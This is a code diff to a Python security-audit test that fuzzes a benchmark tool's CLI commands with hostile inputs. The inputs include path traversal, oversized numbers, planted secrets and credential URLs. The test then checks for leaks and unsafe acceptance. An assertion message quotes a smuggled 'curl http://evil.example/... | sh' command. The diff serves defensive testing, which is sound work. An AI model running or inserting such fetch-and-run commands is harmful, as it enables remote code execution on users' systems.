@@ -6,7 +6,7 @@ output or uploaded to the stand-in Hub; any traceback, or an error longer than o
 
 Every command meets every hostile class that has a way into it (a folder it reads, a path it writes, a value it
 takes) at least once, whatever the budget; then Hypothesis draws further flag values and folder variants until
-HALLUBENCH_AUDIT_SECONDS (default 90, counted from the test's start, at least 10 s of draws) are spent. HALLUBENCH_AUDIT_SEED replays a run; HALLUBENCH_AUDIT_REPORT names
+HALLUBENCH_AUDIT_SECONDS (default 60, counted from the test's start, at least 10 s of draws) are spent. HALLUBENCH_AUDIT_SEED replays a run; HALLUBENCH_AUDIT_REPORT names
 a JSON file to write every finding to."""
 from __future__ import annotations
 
@@ -28,7 +28,7 @@ from hub_server import StandInHub
 
 from hallubench.cli.main import build_parser
 
-SECONDS = float(os.environ.get("HALLUBENCH_AUDIT_SECONDS", "90"))
+SECONDS = float(os.environ.get("HALLUBENCH_AUDIT_SECONDS", "60"))
 MIN_EXTRA_SECONDS = 10  # Hypothesis's draws run at least this long, even when the cases every command meets took all
 SEED = int(os.environ.get("HALLUBENCH_AUDIT_SEED") or random.SystemRandom().randrange(2 ** 31))
 CASE_LIMIT = 6  # seconds one command may take before it is stopped (a stopped case is reported, not failed)
@@ -156,7 +156,8 @@ class Corpus:
     def guaranteed(self, leaves) -> None:
         """Every command plain; against each class of variant (a link out, no manifest, ...) of every folder kind it
         reads, the linked file in turn, then each file's link once more where no command met it yet; with hostile
-        output folders; each value it takes once with a hostile value (in turn) and credentials in its *_args."""
+        output folders; each class of hostile value once (on its options in turn), credentials in its *_args; every
+        registry entry once."""
         rotation = ["nan", "1" + "0" * 400, "1e309", "é\udcff", str(self.outside.secret), f"../../{audit.MARK}",
                     audit.HOSTILE_COMMAND, "-inf"]
         i, turns, met, readers = 0, {}, set(), {}
@@ -173,19 +174,19 @@ class Corpus:
                     self.add(words, parser, group[turn % len(group)], kind)
             if any(audit.writes(a) for a in parser._actions):
                 self.add(words, parser, "hostile-output", hostile_out=True)
-            for action in audit.fuzzable(parser):
-                if action.nargs == 0:
-                    continue
+            valued = [a for a in audit.fuzzable(parser) if a.nargs != 0]
+            for j, value in enumerate(rotation if valued else []):  # each class once, on the options in turn
+                i += 1
+                self.add(words, parser, "flag-value", options=[(valued[(i + j) % len(valued)].dest, value)])
+            for action in valued:
                 if action.dest.endswith("_args"):
-                    extra = ",pretrained=x" if action.dest == "model_args" else ",adapter=openai,pretrained=x"
+                    extra = ",pretrained=x,api_key_env=AUDIT_KEY" + (",adapter=openai" if action.dest != "model_args"
+                                                                     else "")
                     self.add(words, parser, "credential-flag",
                              options=[(action.dest, f"base_url={self.credential_url}{extra}")] +
                              ([("judge", "llm")] if action.dest == "judge_args" else []) +
                              ([("push_to_hub", "me/audit-push")] if "push_to_hub" in
                               {a.dest for a in parser._actions} else []))
-                value = rotation[i % len(rotation)]
-                i += 1
-                self.add(words, parser, "flag-value", options=[(action.dest, value)])
         names, takers = audit.registry_names(), {}
         for words, parser in leaves:
             for action in parser._actions:
@@ -294,6 +295,7 @@ def test_every_command_over_the_hostile_corpus(tmp_path, servers):
         assert child.proc.poll() is None and time.monotonic() < deadline, (
             "the audit child could not make its base folders: " + (inside / "child-1.err").read_text()[-3000:])
         time.sleep(0.2)
+    outside.plant_run(Path(bases["run"]))
     corpus = Corpus(inside, {k: Path(v) for k, v in bases.items()}, outside, servers)
     leaves = list(audit.leaf_commands(build_parser()))
     corpus.guaranteed(leaves)
@@ -321,6 +323,10 @@ def test_every_command_over_the_hostile_corpus(tmp_path, servers):
             stopped.append(case)
         else:
             problems += audit.error_problems(result["code"], result["stdout"], result["stderr"])
+        kind = case["variant"].split(":")[0]
+        if (case["variant"].endswith(":no-manifest") and result["code"] == 0
+                and not (Path(case["cwd"]) / f"hostile-{kind}" / audit.MANIFEST).exists()):  # nor made whole again
+            problems.append(f"a {kind} folder without its manifest ({audit.MANIFEST}) was accepted (exit 0)")
         shown = result["stdout"] + result["stderr"]
         if audit.HOSTILE_COMMAND.split("; ")[1][:30] in shown and not case["options"]:
             problems.append("a command from data shown on the terminal (`...; curl http://evil.example/... | sh #`)")
